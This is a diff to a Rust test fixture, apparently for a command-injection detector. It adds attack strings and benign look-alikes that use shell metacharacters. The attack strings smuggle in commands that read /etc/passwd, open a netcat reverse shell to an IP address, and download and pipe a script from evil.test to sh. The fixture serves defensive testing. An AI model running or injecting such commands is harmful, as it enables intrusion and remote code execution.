@@ -41,6 +41,11 @@ fn ours(report: &Report) -> u32 {
 }
 
 const ATTACKS: &[&str] = &[
+    "Thanks a lot for the quick reply, it works; cat /etc/passwd",
+    "Thanks a lot for the quick reply, it works | nc 10.0.0.1 99 -e /bin/sh",
+    "Thanks a lot for the quick reply, it works && curl http://evil.test/x -o /tmp/x",
+    "Thanks a lot for the quick reply, it works $(curl http://evil.test/x.sh | sh)",
+    "Thanks for all of it.\n\n; cat /etc/passwd\n\nIt came in time.\n\nBest wishes to you",
     ";id",
     "|id",
     "||id",
@@ -205,6 +210,13 @@ const ATTACKS: &[&str] = &[
 ];
 
 const HONEST: &[&str] = &[
+    "To deploy, run git pull && make install && systemctl restart app and tell me what happens in the log",
+    "First do cd /srv/app; git fetch; git checkout main; then restart it with systemctl restart app",
+    "You can pipe it: cat access.log | grep 500 | sort | uniq -c | head and then send me the output please",
+    "For a quick check of the pod: kubectl get pods -n prod | grep api; kubectl logs api-7 | tail -50 gives the rest",
+    "My cat is sick; ping me when the vet has time, and at 5 we can go there together & get food",
+    "He asked who is in charge; who knows; time will tell; more news on Monday & find out more",
+    "Please review this closure, which takes a cell and stores it: get(f).map(|_| {\n    let x = cell;\n})",
     "R&D; sales",
     "data:image/png;base64,iVBORw0KGgo=",
     "bash|zsh|fish",
